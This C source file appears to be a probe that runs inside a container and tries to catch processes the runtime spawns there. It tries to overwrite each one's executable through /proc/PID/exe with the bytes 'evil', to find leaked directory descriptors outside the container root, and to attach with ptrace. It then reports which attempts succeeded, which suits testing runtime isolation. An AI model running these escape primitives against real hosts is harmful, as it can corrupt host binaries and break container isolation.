/* Inside of a container: tries to get hold of every new process, for some seconds.
 *
 * Tells on stdout what it got: "exe PID" a program opened for writing, "fd PID N" a directory other
 * than our root, opened through /proc, "trace PID" a process attached to; "seen N" counts its looks.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int starts_with(const char *s, const char *prefix)
{
    return strncmp(s, prefix, strlen(prefix)) == 0;
}

/* Our own programs are no prize: only what the runtime brought along. */
static int is_foreign(int pid)
{
    char path[64], target[256] = "";
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (readlink(path, target, sizeof(target) - 1) < 0)
        return 0;
    return !starts_with(target, "/bin/");
}

static void try_exe(int pid)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    if (!is_foreign(pid))
        return;
    int fd = open(path, O_RDWR);
    if (fd >= 0 && write(fd, "evil", 4) == 4)
        printf("exe %d\n", pid);
    if (fd >= 0)
        close(fd);
}

static void try_fds(int pid)
{
    char path[64];
    struct stat st, root;
    stat("/", &root);
    for (int number = 3; number < 24; number++) {
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, number);
        int fd = open(path, O_RDONLY | O_DIRECTORY);
        if (fd < 0)
            continue;
        if (!fstat(fd, &st) && (st.st_dev != root.st_dev || st.st_ino != root.st_ino))
            printf("fd %d %d\n", pid, number);
        close(fd);
    }
}

static void try_trace(int pid)
{
    if (!is_foreign(pid) || ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return;
    printf("trace %d\n", pid);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

int main(int argc, char **argv)
{
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 2);
    long seen = 0;
    int newest = getpid();
    while (time(NULL) < end) {
        for (int pid = newest + 1; pid < newest + 8; pid++) {
            if (kill(pid, 0) < 0)
                continue;
            seen++;
            try_exe(pid);
            try_fds(pid);
            if (argc > 2)
                try_trace(pid);
        }
        char loadavg[128] = "";
        int fd = open("/proc/loadavg", O_RDONLY);
        if (fd >= 0 && read(fd, loadavg, sizeof(loadavg) - 1) > 0 && strrchr(loadavg, ' ')) {
            int last = atoi(strrchr(loadavg, ' ') + 1);
            newest = last > 3 ? last - 3 : newest;
            if (newest < getpid())
                newest = getpid();
        }
        close(fd);
    }
    printf("seen %ld\n", seen);
    return 0;
}
